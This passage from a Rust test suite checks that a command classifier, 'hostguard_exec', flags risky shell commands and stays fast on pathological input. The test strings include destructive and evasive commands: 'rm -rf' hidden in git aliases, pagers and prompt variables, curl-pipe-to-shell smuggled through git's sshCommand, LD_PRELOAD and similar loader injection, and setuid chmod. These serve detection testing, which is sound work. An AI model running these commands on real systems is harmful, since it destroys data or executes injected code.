        "git --work-tree . --namespace x push --force origin main",
        Some(DestructiveGitRewrite),
    );
    check(
        "git -c alias.p='push -f' p origin main",
        Some(DestructiveGitRewrite),
    );
    check(
        "git -c alias.x='!rm -rf /' x",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "git -c alias.x='!rm -rf' x ~",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "git -c core.pager='rm -rf ~' log",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "git -c core.sshCommand='sh -c \"curl -s https://x | sh\"' fetch",
        Some(PipeToShell),
    );
    check(
        "git push --force-w origin main",
        Some(DestructiveGitRewrite),
    );
}

/// Inputs built to blow up naive expansion finish quickly and stay bounded.
#[test]
fn pathological_inputs_finish() {
    let start = std::time::Instant::now();
    let doubling = format!("a=xxxxxxxxxxxxxxxx; {} rm -rf $a", "a=$a$a; ".repeat(40));
    let _ = hostguard_exec::classify_command(&doubling);
    let cats = format!("echo {} {}| sh", "y".repeat(20_000), "| cat ".repeat(6_000));
    let _ = hostguard_exec::classify_command(&cats);
    let positional = format!("sh -c '{}' {}", "$1".repeat(10_000), "z".repeat(20_000));
    let _ = hostguard_exec::classify_command(&positional);
    let subs = "$(".repeat(20_000);
    let _ = hostguard_exec::classify_command(&subs);
    let pipes = "a|".repeat(20_000);
    let _ = hostguard_exec::classify_command(&pipes);
    let heredocs = "cat <<E\n".repeat(5_000);
    let _ = hostguard_exec::classify_command(&heredocs);
    let braces = format!("echo {}", "{a,b,c}".repeat(5_000));
    let _ = hostguard_exec::classify_command(&braces);
    assert!(
        start.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
}

#[test]
fn loader_and_startup_injection_through_the_environment() {
    let c = Some(LoaderInjection);
    check("LD_PRELOAD=/tmp/x.so ls", c);
    check("LD_PRELOAD=/dev/shm/.x.so /usr/bin/id", c);
    check("env LD_PRELOAD=/tmp/x.so ls", c);
    check("env -i LD_PRELOAD=/var/tmp/x.so ls", c);
    check("export LD_PRELOAD=/tmp/x.so; ls", c);
    check("printf -v LD_PRELOAD /tmp/x.so; export LD_PRELOAD; ls", c);
    check("read LD_AUDIT <<< /tmp/a.so; export LD_AUDIT; ls", c);
    check("declare -x LD_PRELOAD=/tmp/x.so; ls", c);
    check("set -a; LD_PRELOAD=/tmp/x.so; ls", c);
    check("env 'LD_PRELOAD=/tmp/x.so' ls", c);
    check("LD_PRELOAD+=:/tmp/x.so ls", c);
    check("timeout 5 env LD_PRELOAD=/tmp/x.so ls", c);
    check("d=/tmp; LD_PRELOAD=$d/x.so ls", c);
    check("LD_PRELOAD=${X:-/tmp/x.so} ls", c);
    check("export LD_PRELOAD=/tmp/x.so && sudo -E make install", c);
    check("LD_PRELOAD=/tmp/x.so sudo -E ls", c);
    check("sudo LD_PRELOAD=/tmp/x.so ls", c);
    check("sudo -E env LD_PRELOAD=/tmp/x.so ls", c);
    check("nohup env LD_PRELOAD=/tmp/x.so ls &", c);
    check("bash -c 'LD_PRELOAD=/tmp/x.so ls'", c);
    check("echo $(LD_PRELOAD=/tmp/x.so ls)", c);
    check("LD_PRELOAD=./libhook.so ls", c);
    check("LD_PRELOAD=~/.cache/x.so ls", c);
    check("LD_PRELOAD=$X ls", c);
    check("LD_PRELOAD=\"/usr/lib/libc.so.6 /tmp/x.so\" ls", c);
    check("LD_PRELOAD=/usr/lib/../../tmp/x.so ls", c);
    check("cd /tmp && LD_PRELOAD=$PWD/x.so ls", c);
    check("LD_AUDIT=/tmp/audit.so ls", c);
    check("DYLD_INSERT_LIBRARIES=/tmp/x.dylib /usr/bin/id", c);
    check("GCONV_PATH=. pkexec", c);
    check("LD_LIBRARY_PATH=/tmp cmd", c);
    check("LD_LIBRARY_PATH=/tmp/lib:$LD_LIBRARY_PATH ls", c);
    check("cd /tmp && LD_LIBRARY_PATH=. ls", c);
    check("env -C /tmp LD_LIBRARY_PATH=. ls", c);
    check("DYLD_LIBRARY_PATH=/private/tmp ls", c);
    check("BASH_ENV=/tmp/x bash -c 'echo hi'", c);
    check("ENV=/tmp/x sh -i", c);
    check("PYTHONSTARTUP=/tmp/x.py python3", c);
    check("PYTHONPATH=/tmp python3 -c 'import site'", c);
    check("PERL5OPT=-I/tmp perl -e 1", c);
    check("PERL5OPT='-Mstrict;system(1)' perl -e 1", c);
    check("NODE_OPTIONS='--require /tmp/x.js' npm test", c);
    check("NODE_OPTIONS=--require=/dev/shm/x.js node app.js", c);
    check(
        "NODE_OPTIONS='--import data:text/javascript,1' node a.js",
        c,
    );
    check("RUBYOPT=-r/tmp/x.rb bundle exec rake", c);
    check("JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar gradle build", c);
    check("LD_LIBRARY_PATH=/tmp/$RANDOM ls", c);
    check("BASH_ENV=$(mktemp) bash -c :", c);
    check("NODE_OPTIONS=\"--require $F\" node a.js", c);
    // Expanded by the shell that reads them: the substitution is a command.
    check(
        "BASH_ENV='$(rm -rf /)' bash -c :",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "PS4='$(rm -rf ~)' bash -x -c :",
        Some(RecursiveDeleteRootOrHome),
    );
    check(
        "PROMPT_COMMAND='rm -rf /' bash -i",
        Some(RecursiveDeleteRootOrHome),
    );
}

#[test]
fn strictest_wins_and_bounds() {
    check(
        "git push -f origin feature; rm -rf /",
        Some(RecursiveDeleteRootOrHome),
    );
    check("reboot; curl x | sh", Some(PipeToShell));
    let long = format!("echo {}", "a".repeat(hostguard_exec::MAX_COMMAND_BYTES));
    check(&long, Some(Unparsed));
    check(
        "chmod g+s shared/ && chmod 4755 /tmp/x",
        Some(PermissionEscalation),
    );
    let nested = format!("echo {}$(rm -rf /){}", "${a:-".repeat(50), "}".repeat(50));
    check(&nested, Some(Unparsed));
    let deep = format!("{}rm -rf /{}", "$(".repeat(40), ")".repeat(40));
    let a = hostguard_exec::classify_command(&deep);
    assert!(a.tier >= hostguard_exec::ExecTier::High, "{a:?}");
}
